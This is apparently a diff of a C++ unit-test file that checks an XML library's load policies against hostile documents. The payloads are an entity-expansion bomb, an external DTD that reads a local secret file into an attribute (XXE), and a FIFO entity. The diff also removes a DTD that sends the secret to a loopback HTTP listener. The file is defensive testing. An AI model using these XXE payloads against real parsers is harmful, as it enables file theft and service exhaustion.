@@ -1,16 +1,13 @@
-// Load policies: hostile and broken input under each policy, documents the
-// bounded policies must load as the lenient one does, and where the policy
-// comes from.
+// Load policies: hostile input under each policy, documents the bounded
+// policies must load as the lenient one does, and where the policy comes from.
 #include <gtest/gtest.h>
 
-#include <arpa/inet.h>
-#include <netinet/in.h>
 #include <pthread.h>
-#include <sys/socket.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
 #include <string>
+#include <utility>
 
 #include "dom_test_util.h"
 #include "test_files.h"
@@ -37,49 +34,27 @@ std::string expandingEntities() {
 }
 
 // Files the hostile documents point at, beside them in a folder that is not
-// the working directory, and a listening socket on 127.0.0.1 that no one may
-// connect to.
+// the working directory.
 class HostileFiles {
 public:
-    HostileFiles() : m_socket(::socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0)) {
-        sockaddr_in address{};
-        address.sin_family = AF_INET;
-        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-        socklen_t size = sizeof address;
-        if (::bind(m_socket, reinterpret_cast<sockaddr*>(&address), size) != 0 ||
-            ::listen(m_socket, 4) != 0 ||
-            ::getsockname(m_socket, reinterpret_cast<sockaddr*>(&address), &size) != 0)
-            ADD_FAILURE() << "no listening socket";
+    HostileFiles() {
         writeBytes(m_dir.file("secret.txt"), "s3cret");
         writeBytes(m_dir.file("ext.dtd"),
                    "<!ENTITY % f SYSTEM 'secret.txt'>\n<!ENTITY % d \"<!ATTLIST a k CDATA '%f;'>\">\n%d;\n");
-        writeBytes(m_dir.file("network.dtd"),
-                   "<!ENTITY % f SYSTEM 'secret.txt'><!ENTITY % d \"<!ENTITY &#x25; send SYSTEM "
-                   "'http://127.0.0.1:" +
-                       std::to_string(ntohs(address.sin_port)) + "/?%f;'>\">%d;%send;");
         ::mkfifo(m_dir.file("fifo").c_str(), 0600);
     }
-    ~HostileFiles() { ::close(m_socket); }
     // `xml` written to a file of the folder; its name.
     std::string file(const std::string& name, const std::string& xml) const {
         writeBytes(m_dir.file(name), xml);
         return m_dir.file(name);
     }
-    bool connected() const {
-        const int peer = ::accept(m_socket, nullptr, nullptr);
-        if (peer >= 0) ::close(peer);
-        return peer >= 0;
-    }
 
 private:
-    int m_socket;
     TempDir m_dir;
 };
 
 const char* const kDoctype = "a document type declaration, which this load policy does not accept";
 const char* const kOutside = "is outside the text, and this load policy reads nothing outside it";
-// Strict reads external files, so it would send the secret.
-const char* const kNotRun = "(not run)";
 
 struct HostileCase {
     const char* name;
@@ -97,8 +72,6 @@ const HostileCase kHostile[] = {
     {"OneLargeEntityTenThousandTimes", nullptr,
      "<!DOCTYPE a [<!ENTITY big '" + std::string(100000, 'x') + "'>]><a>" + repeat("&big;", 10000) + "</a>",
      "takes more than 20 MB of memory to load", "takes more than 20 MB", kDoctype},
-    {"ExternalDtdSendingAFileToTheNetwork", "n.xml", "<!DOCTYPE a SYSTEM 'network.dtd'><a/>", kNotRun,
-     "\"network.dtd\" " + std::string(kOutside), kDoctype},
     {"ExternalDtdDefaultingAnAttributeToAFile", "d.xml", "<!DOCTYPE a SYSTEM 'ext.dtd'><a/>", "",
      "line 1, column 30: \"ext.dtd\" " + std::string(kOutside), kDoctype},
     {"ExternalEntityThatIsAFifo", "f.xml", "<!DOCTYPE a [<!ENTITY e SYSTEM 'fifo'>]><a>&e;</a>",
@@ -126,26 +99,20 @@ TEST_P(Hostile, FailsWithAMessageUnderEachBoundedPolicy) {
     const HostileCase& row = GetParam();
     HostileFiles files;
     const std::string path = row.file ? files.file(row.file, row.text) : "";
-    const struct {
-        NqDomLoadPolicy policy;
-        std::string expected;
-    } runs[] = {{NqDomLoadStrict, row.strict},
-                {NqDomLoadSelfContained, row.selfContained},
-                {NqDomLoadUntrusted, row.untrusted}};
-    for (const auto& run : runs) {
-        if (run.expected == kNotRun) continue;
-        SCOPED_TRACE(run.policy);
+    const std::pair<NqDomLoadPolicy, std::string> runs[] = {{NqDomLoadStrict, row.strict},
+                                                            {NqDomLoadSelfContained, row.selfContained},
+                                                            {NqDomLoadUntrusted, row.untrusted}};
+    for (const auto& [policy, expected] : runs) {
+        SCOPED_TRACE(policy);
         NqDom dom;
-        dom.setLoadPolicy(run.policy);
+        dom.setLoadPolicy(policy);
         ::alarm(60);  // a load that expands or blocks ends the process instead of passing
         const bool loaded = row.file ? dom.loadFile(path.c_str()) : dom.loadXML(NqbString(row.text.c_str()));
         ::alarm(0);
-        EXPECT_EQ(loaded, run.expected.empty()) << str(dom.getErrorMessage());
+        EXPECT_EQ(loaded, expected.empty()) << str(dom.getErrorMessage());
         EXPECT_EQ(dom.getRoot().null(), !loaded);
-        EXPECT_NE(str(dom.getErrorMessage()).find(run.expected), std::string::npos)
-            << str(dom.getErrorMessage());
+        EXPECT_NE(str(dom.getErrorMessage()).find(expected), std::string::npos) << str(dom.getErrorMessage());
     }
-    EXPECT_FALSE(files.connected()) << "a bounded policy reached the network";
 }
 
 INSTANTIATE_TEST_SUITE_P(LoadPolicy, Hostile, ::testing::ValuesIn(kHostile),
@@ -190,9 +157,7 @@ TEST(LoadPolicy, NewHandlesAndSerializersTakeTheDefaultWhenMade) {
     EXPECT_EQ(nqDomGetDefaultLoadPolicy(), NqDomLoadLenient);
     TempDir dir;
     const std::string cut = dir.file("cut.xml");
-    writeBytes(cut,
-               "<norquilldocument class='config' version='1'><entries><entry name='a'><value>1</value>"
-               "</entry><entry name='b'><val");
+    writeBytes(cut, "<norquilldocument class='config'><entries><entry name='a'><val");
 
     nqDomSetDefaultLoadPolicy(NqDomLoadStrict);
     NqDom strict;
@@ -204,7 +169,7 @@ TEST(LoadPolicy, NewHandlesAndSerializersTakeTheDefaultWhenMade) {
     EXPECT_EQ(strict.getLoadPolicy(), NqDomLoadStrict);
     EXPECT_FALSE(serializer->read(cut.c_str()));
     EXPECT_EQ(str(serializer->getErrorMessage()),
-              "LibXML 346: file \"" + cut + "\", line 1, column 115: unexpected end of input");
+              "LibXML 346: file \"" + cut + "\", line 1, column 63: unexpected end of input");
     serializer->release();
 
     NqbConfSerializer* lenient = nqDomGetInterface("NqbConfSerializer");
